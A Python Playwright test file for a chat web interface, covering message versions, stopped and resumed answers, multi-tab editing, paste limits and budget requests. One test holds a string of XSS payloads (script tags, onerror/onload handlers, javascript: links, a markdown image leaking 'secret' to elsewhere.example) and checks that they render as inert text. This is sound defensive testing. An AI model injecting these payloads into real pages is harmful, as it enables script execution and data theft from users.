"""The chat on the page: written and answered in view, branched, stopped, gone on with; hostile words stay words."""

from __future__ import annotations

import re
from collections.abc import Callable

from playwright.sync_api import Locator, expect

from tests.web.harness import PHONE, House, Person, Tab

Visit = Callable[..., Tab]
HOSTILE = (
    "<script>window.taken = 1</script> <img src=x onerror='window.taken = 1'>\n\n"
    "![leak](https://elsewhere.example/x.png?words=secret) [run](javascript:window.taken=1) "
    "[go](https://elsewhere.example/)\n\n| a |\n|---|\n| <svg onload='window.taken=1'> |\n\n$\\href{javascript:1}{x}$"
)

_KEPT = """() => new Promise((done) => {
  const kept = () => Object.keys(localStorage).some((key) => key.startsWith("tokenry.draft."));
  const look = () => (kept() ? done() : setTimeout(look, 20));
  look();
})"""  # resolves once the draft is kept


def field(tab: Tab) -> Locator:
    """Where one writes."""
    return tab.page.get_by_role("textbox", name="Message", exact=True)


def say(tab: Tab, words: str) -> None:
    """Write a message and send it by the keyboard."""
    field(tab).fill(words)
    field(tab).press("Enter")


def answers(tab: Tab) -> Locator:
    """The answers that are drawn."""
    return tab.page.get_by_role("article", name="says")


def test_one_asks_edits_and_walks_between_versions(visit: Visit, member: Person) -> None:
    tab = visit(member, "/")
    page = tab.page
    say(tab, "First [[text=One **bold** answer.]]")
    page.wait_for_url("**/chat/chat_*")
    expect(answers(tab).locator("strong")).to_have_text("bold")
    expect(field(tab)).to_be_focused()
    field(tab).press("ArrowUp")
    again = page.get_by_role("textbox", name="Your message, to be asked anew")
    again.fill("Second [[text=Another answer.]]")
    again.press("Enter")
    expect(answers(tab)).to_contain_text("Another answer.")
    page.get_by_role("group", name="Version 2 of 2").get_by_role("button", name="Previous version").click()
    expect(answers(tab)).to_contain_text("One bold answer.")
    page.keyboard.press("Alt+BracketRight")
    expect(answers(tab)).to_contain_text("Another answer.")
    page.reload()
    expect(answers(tab)).to_contain_text("Another answer.")
    page.get_by_role("button", name="see the receipt").click()
    expect(page.get_by_role("dialog", name="Receipt")).to_contain_text("never: nothing trains on this")
    assert not tab.settled().wrong()


def test_an_answer_is_stopped_kept_and_goes_on(visit: Visit, member: Person) -> None:
    tab = visit(member, "/")
    say(tab, "Count [[words=4000;delay_ms=5]]")
    expect(answers(tab)).to_contain_text("three four")
    tab.page.reload()  # the answer is the server's: it went on
    expect(answers(tab)).to_contain_text("three four")
    field(tab).press("Escape")
    expect(tab.page.get_by_text("You stopped this answer.")).to_be_visible()
    assert not tab.resize(PHONE).wrong()
    tab.page.get_by_role("button", name="Continue").click()
    expect(tab.page.get_by_text("You stopped this answer.")).to_have_count(0)
    expect(answers(tab)).to_contain_text(re.compile(r"[a-z]one two three four five"))  # without a gap


def test_two_tabs_write_below_the_same_answer_and_both_are_kept(visit: Visit, member: Person) -> None:
    one = visit(member, "/")
    say(one, "Begin [[text=Begun.]]")
    one.page.wait_for_url("**/chat/chat_*")
    expect(answers(one)).to_contain_text("Begun.")
    two = visit(member, one.page.url.removeprefix(one.page.url.split("/chat/")[0]))
    expect(answers(two)).to_contain_text("Begun.")
    say(one, "From the first [[text=The first tab's answer.]]")
    expect(answers(one).last).to_contain_text("The first tab's answer.")
    say(two, "From the second [[text=The second tab's answer.]]")  # it has not seen what the first one asked
    expect(answers(two).last).to_contain_text("The second tab's answer.")
    two.page.get_by_role("group", name="Version 2 of 2").get_by_role("button", name="Previous version").click()
    expect(answers(two).last).to_contain_text("The first tab's answer.")
    one.page.reload()
    expect(one.page.get_by_role("group", name="Version 1 of 2")).to_be_visible()


def test_hostile_words_stay_words_and_no_picture_is_fetched(visit: Visit, member: Person) -> None:
    tab = visit(member, "/")
    say(tab, f"Show [[text={HOSTILE}]]")
    expect(answers(tab)).to_contain_text("<script>window.taken = 1</script>")
    expect(answers(tab).get_by_role("link", name="leak elsewhere.example")).to_be_visible()
    expect(answers(tab).get_by_role("link", name="go")).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(answers(tab).get_by_role("link", name="run")).to_have_count(0)
    expect(answers(tab).locator("img, svg[onload], script")).to_have_count(0)
    assert tab.settled().page.evaluate("window.taken") is None
    assert not tab.colours("dark").wrong()


def test_too_much_is_refused_before_it_is_sent_and_the_draft_stays(visit: Visit, member: Person) -> None:
    tab = visit(member, "/")
    field(tab).fill("half a thought")
    field(tab).evaluate(
        "(field) => { const data = new DataTransfer(); data.setData('text/plain', 'x'.repeat(50 * 2 ** 20));"
        " field.dispatchEvent(new ClipboardEvent('paste', {clipboardData: data, bubbles: true, cancelable: true})); }"
    )
    expect(tab.page.get_by_role("alert")).to_contain_text("That is 50 MB of text, and a message holds 1 MB.")
    expect(field(tab)).to_have_value("half a thought")
    assert not tab.settled().wrong()
    tab.page.get_by_role("button", name="Cancel").click()
    expect(field(tab)).to_be_focused()
    tab.page.evaluate(_KEPT)
    tab.page.reload()
    expect(field(tab)).to_have_value("half a thought")
    field(tab).fill("")


def test_out_of_funds_is_a_card_and_one_asks_for_more(visit: Visit, owner: Person, house: House) -> None:
    nina = house.invite("Nina")
    owner.post("/v1/tokenry/budgets", scope="user", scope_id=nina.me["id"], limit_usd="0.000001", window="month")
    tab = visit(nina, "/")
    say(tab, "Anything")
    card = tab.page.get_by_role("region", name="The budget is used up")
    expect(card).to_contain_text("Not enough is left for this answer")
    assert not tab.settled().wrong()
    card.get_by_role("button", name="Ask for more").click()
    ask = tab.page.get_by_role("dialog", name="Ask for more")
    ask.get_by_role("button", name="Ask", exact=True).click()
    expect(ask).to_contain_text("Say in a few words what it is for.")
    ask.get_by_label("New limit, in dollars").fill("5")
    ask.get_by_label("What you need it for").fill("The report is due on Friday.")
    ask.get_by_role("button", name="Ask", exact=True).click()
    expect(ask).to_have_count(0)
    assert [one["asked_usd"] for one in nina.get("/v1/tokenry/me/limit_requests")["data"]] == ["5.00"]
